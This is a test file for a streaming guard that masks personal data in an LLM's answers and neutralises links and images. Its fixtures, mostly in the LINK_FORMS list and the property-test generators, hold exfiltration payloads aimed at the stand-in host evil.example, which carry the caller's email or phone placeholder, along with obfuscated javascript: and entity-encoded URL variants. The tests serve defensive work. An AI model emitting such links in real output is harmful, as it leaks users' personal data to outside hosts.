import fc from 'fast-check';
import { checkOutput, type OutputCheckOptions } from '../../lambda/guard/output-check';
import { maskPersonalData } from '../../lambda/guard/mask';
import { restoreOutsideLinks } from '../../lambda/guard/output-links';
import { DEFAULT_GUARD_POLICY } from '../../lambda/guard/policy';
import { createStreamGuard, HOLD_BACK_CHARS, openCodeSpan, type StreamGuard } from '../../lambda/guard/stream-guard';

/** The caller's own values: masked on the way in, so the model only ever sees placeholders. */
const CALLER = { email: 'taro.yamada@example.co.jp', phone: '03-1111-2222' };
const callerVault = () => maskPersonalData(`メール ${CALLER.email}、電話 ${CALLER.phone}`).vault;

/** Identifiers the model writes that the caller never gave: none may reach the client. */
const NEW_IDENTIFIERS = ['4111 1111 1111 1111', '090-1234-5678', '123456789018', 'hanako.suzuki@example.com'];
const leakForms = (v: string) => [v, v.replace(/[\s-]/g, '')];

function run(guard: StreamGuard, chunks: readonly string[]) {
  let released = '';
  let blocked = false;
  for (const c of chunks) {
    const step = guard.push(c);
    released += step.text;
    if (step.blocked) {
      blocked = true;
      break;
    }
  }
  const end = guard.end();
  released += end.text;
  return { released, blocked: blocked || end.blocked, end };
}

/** Split `text` at the given (sorted, deduplicated) offsets. */
function chunked(text: string, cuts: readonly number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let last = 0;
  for (const p of points) {
    out.push(text.slice(last, p));
    last = p;
  }
  out.push(text.slice(last));
  return out;
}

function options(restoreInAnswer: boolean): OutputCheckOptions {
  return {
    vault: callerVault(),
    policy: { ...DEFAULT_GUARD_POLICY, restoreInAnswer },
    systemPrompt: 'You are the company assistant. Answer in Japanese and keep placeholders.',
    allowedLinkHosts: ['docs.example.co.jp'],
  };
}

describe('stream guard', () => {
  it('holds back the window: nothing is released until more than the window has arrived', () => {
    const guard = createStreamGuard({ check: (t) => checkOutput(t) });
    expect(guard.window).toBe(HOLD_BACK_CHARS);
    const text = 'あ'.repeat(HOLD_BACK_CHARS);
    expect(guard.push(text).text).toBe('');
    const step = guard.push('い'.repeat(10));
    expect(step.text).toBe('あ'.repeat(10));
    expect(guard.end().text).toBe('あ'.repeat(HOLD_BACK_CHARS - 10) + 'い'.repeat(10));
  });

  it('masks an identifier that arrives one character at a time, and never releases a part of it', () => {
    const answer = `${'ご確認ください。'.repeat(20)}担当の電話は 090-1234-5678 です。${'よろしくお願いします。'.repeat(20)}`;
    const guard = createStreamGuard({ check: (t) => checkOutput(t) });
    const { released, blocked } = run(guard, [...answer]);
    expect(blocked).toBe(false);
    expect(released).toBe(checkOutput(answer).text);
    expect(released).toContain('[OUT_PHONE_NUMBER_1]');
    expect(released).not.toContain('090-1234');
  });

  it('judges a number with the text after it: 12345678 followed by 円 is an amount, not an identifier', () => {
    const answer = `${'お支払い金額は'.repeat(18)}12345678円です。${'以上です。'.repeat(30)}`;
    const chunks = chunked(answer, Array.from({ length: answer.length }, (_, i) => i));
    const { released } = run(createStreamGuard({ check: (t) => checkOutput(t) }), chunks);
    expect(released).toBe(checkOutput(answer).text);
  });

  it('stops with blocked when a confidentiality marker appears; what was sent before had passed', () => {
    const answer = `${'一般的な手順を説明します。'.repeat(20)}この資料は社外秘です。${'続きです。'.repeat(30)}`;
    expect(checkOutput(answer).action).toBe('block');
    const { released, blocked, end } = run(createStreamGuard({ check: (t) => checkOutput(t) }), chunked(answer, [40, 80, 120, 160, 200, 240, 280]));
    expect(blocked).toBe(true);
    expect(end.blocked && end.reason).toBe('policy');
    expect(released).not.toContain('社外秘');
    expect(answer.startsWith(released)).toBe(true);
  });

  it('holds an open Markdown image until its target has arrived, then releases it neutralised', () => {
    const opts = options(true);
    const guard = createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: true });
    // A line of its own: with restore on, a space-free run holding a placeholder is held whole.
    const lead = `${'ご案内です。'.repeat(30)}\n`;
    let released = guard.push(`${lead}![logo](https://evil.example/p.png?q=[EMAIL_1]`).text;
    released += guard.push('あ'.repeat(HOLD_BACK_CHARS * 2)).text;
    expect(released.length).toBeGreaterThan(0);
    expect(released).not.toContain('!');
    released += guard.push(') 以上です。' + 'い'.repeat(HOLD_BACK_CHARS * 2)).text;
    released += guard.end().text;
    expect(released).toBe(checkOutput(`${lead}![logo](https://evil.example/p.png?q=[EMAIL_1]${'あ'.repeat(HOLD_BACK_CHARS * 2)}) 以上です。${'い'.repeat(HOLD_BACK_CHARS * 2)}`, opts).text);
    expect(released).not.toContain('https://evil');
    expect(released).not.toContain(CALLER.email);
  });

  it('holds an inline code span until it closes (a placeholder inside it is never restored)', () => {
    expect(openCodeSpan('前 `[EMAIL_1] の続き', 0)).toBe(2);
    expect(openCodeSpan('前 `[EMAIL_1]` 後', 0)).toBe('前 `[EMAIL_1]` 後'.length);
    expect(openCodeSpan('```\nfenced', 0)).toBe('```\nfenced'.length);
    expect(openCodeSpan('前 `x\n\n後', 0)).toBe('前 `x\n\n後'.length);
  });

  it('never releases half of a surrogate pair', () => {
    const answer = `${'😀'.repeat(200)}`;
    const guard = createStreamGuard({ check: (t) => checkOutput(t), step: 1 });
    const pieces = [...answer.split('')].map((unit) => guard.push(unit).text).filter((t) => t.length > 0);
    pieces.push(guard.end().text);
    const loneSurrogate = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
    for (const piece of pieces) expect(piece).not.toMatch(loneSurrogate);
    expect(pieces.join('')).toBe(answer);
  });

  it('restore is decided per placeholder: a value that would join a URL stays a placeholder, the one in prose is restored', () => {
    const vault = callerVault();
    const text = 'お電話は [PHONE_NUMBER_1] へ。 https://evil.example/x?m=[PHONE_NUMBER_1]';
    expect(restoreOutsideLinks(text, vault)).toBe(`お電話は ${CALLER.phone} へ。 https://evil.example/x?m=[PHONE_NUMBER_1]`);
    // A placeholder right after a URL would extend it once restored: that one alone stays.
    expect(restoreOutsideLinks('https://evil.example/x?m= [EMAIL_1] and x.example/[EMAIL_1]', vault)).toBe(`https://evil.example/x?m= ${CALLER.email} and x.example/[EMAIL_1]`);
  });

  it('widens the window to the longest value in the caller\'s vault', () => {
    const long = maskPersonalData('住所は東京都千代田区丸の内一丁目1番1号 丸の内センタービルディング12階です').vault;
    const value = Object.values(long.values).reduce((a, b) => (a.length > b.length ? a : b), '');
    const guard = createStreamGuard({ check: (t) => checkOutput(t, { vault: long }), vault: long, window: 8 });
    expect(guard.window).toBe(Math.max(8, value.length + 12));
  });

  it('restores the caller\'s own values as the buffered check does', () => {
    const answer = `${'ご依頼の件です。'.repeat(16)}ご連絡先は [EMAIL_1] と [PHONE_NUMBER_1] ですね。${'承知しました。'.repeat(20)}`;
    const opts = options(true);
    const { released } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: true }), chunked(answer, [3, 50, 130, 131, 140, 150, 170]));
    expect(released).toBe(checkOutput(answer, opts).text);
    expect(released).toContain(CALLER.email);
  });

  // The property the issue names: for random chunkings of answers with identifiers,
  // placeholders and links, the concatenated releases equal the buffered check's answer,
  // and no identifier the caller did not give ever reaches the client.
  const piece = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom('ご確認ください。', '手続きは以下のとおりです。\n', 'The steps are as follows. ', 'よろしくお願いします。', '\n\n', ' ', '- 項目\n', '金額は12345678円です。', 'コードは `x = 1` です。', '\n```\ncode [EMAIL_1]\n```\n') },
    { weight: 3, arbitrary: fc.constantFrom(...NEW_IDENTIFIERS.map((v) => `連絡先 ${v} まで。`)) },
    { weight: 2, arbitrary: fc.constantFrom('[EMAIL_1]', '[PHONE_NUMBER_1]', ' [EMAIL_1] 様', '[PHONE_NUMBER_1]にお電話ください。') },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '[資料](https://evil.example/p?q=[EMAIL_1])',
        '![logo](https://evil.example/p.png?q=[EMAIL_1])',
        '<https://evil.example/x?m=[PHONE_NUMBER_1]>',
        '詳細はhttps://evil.example/a?q=[EMAIL_1]をご覧ください。',
        '<a href="https://evil.example/?e=[EMAIL_1]">こちら</a>',
        '[参照][1]\n\n[1]: https://evil.example/r?q=[EMAIL_1]\n',
        '<img src="https://evil.example/i.png?[EMAIL_1]">',
        '\nhttps://docs.example.co.jp/guide ',
      ),
    },
  );
  const answers = fc.array(piece, { minLength: 1, maxLength: 30 }).map((p) => p.join(''));

  // Link and image forms a renderer would load or follow; each must come out as on the buffered route.
  const LINK_FORMS = [
    '![logo](https://evil.example/p.png?q=[EMAIL_1])',
    '![logo](<https://evil.example/p q.png>)',
    '![logo](\n  https://evil.example/p.png\n  "t")',
    '[click\nhere](https://evil.example/?q=[EMAIL_1])',
    '[![i](https://evil.example/i.png)](https://evil.example/)',
    '[click][r]\n\n[r]: https://evil.example/?q=[EMAIL_1]',
    '![logo][r]\n\n[r]: <https://evil.example/p.png> "t"',
    'see <https://evil.example/?q=[PHONE_NUMBER_1]>',
    '<img src="https://evil.example/p.png?[EMAIL_1]" alt="logo">',
    '<img\n  alt="x"\n  src="https://evil.example/p.png"\n>',
    '<a href="https://evil.example/">click</a>',
    '<div style="background:url(https://evil.example/p.png)">x</div>',
    'go to www.evil.example/?q=[EMAIL_1] now',
    'go to //evil.example/p.png',
    '![a](&#104;ttps://evil.example/p.png)',
    '[a](javascript&#58;alert(1))',
    '[a](https%3A%2F%2Fevil.example%2F)',
    '![a](data:image/png;base64,iVBORw0KGgo=)',
    '[a](java\tscript:alert(1))',
    'see https&colon;&sol;&sol;evil.example/x?q=[EMAIL_1]',
    '詳細はhttps://evil.example/a?q=[EMAIL_1]をご覧ください',
  ];
  const liveUrls = (text: string) => text.match(/(?:\b(?:https?|ftp|data|javascript|vbscript|file|blob):|(?<![\w:])\/\/|\bwww\.)[^\s<>"'`)]*/gi) ?? [];

  it('every link and image form, in random chunks, comes out as the buffered check makes it, with no live target', () => {
    fc.assert(
      fc.property(fc.constantFrom(...LINK_FORMS), fc.array(fc.nat(), { maxLength: 30 }), fc.boolean(), (form, cuts, restore) => {
        const opts = options(restore);
        const answer = `${'ご案内です。'.repeat(12)}${form}${'以上です。'.repeat(25)}`;
        const buffered = checkOutput(answer, opts);
        const { released, blocked } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: restore, step: 8 }), chunked(answer, cuts));
        expect(blocked).toBe(buffered.action === 'block');
        if (!blocked) expect(released).toBe(buffered.text);
        expect(liveUrls(released)).toEqual([]);
        expect(released).not.toContain(CALLER.email);
      }),
      { numRuns: 200 },
    );
  });

  it('property: random chunkings release exactly the buffered answer and never an identifier the caller did not give', () => {
    fc.assert(
      fc.property(answers, fc.array(fc.nat(), { maxLength: 40 }), fc.boolean(), fc.integer({ min: 8, max: HOLD_BACK_CHARS }), fc.integer({ min: 1, max: 64 }), (answer, cuts, restore, window, step) => {
        const opts = options(restore);
        const buffered = checkOutput(answer, opts);
        const guard = createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: restore, window, step });
        const { released, blocked } = run(guard, chunked(answer, cuts));
        for (const v of NEW_IDENTIFIERS) for (const form of leakForms(v)) expect(released).not.toContain(form);
        // No image, link or URL to a host off the allow-list, and no restored value inside a URL.
        expect(released).not.toMatch(/(?:https?|data|javascript):\/*evil|<img|<a\s|\]\(\s*https?:|^\s*\[1\]:\s*https?:/im);
        expect(released).not.toMatch(/[?&=]taro\.yamada|[?&=]03-1111/);
        if (buffered.action === 'block') {
          expect(blocked).toBe(true);
        } else {
          expect(blocked).toBe(false);
          expect(released).toBe(buffered.text);
        }
      }),
      { numRuns: 300 },
    );
  });
});
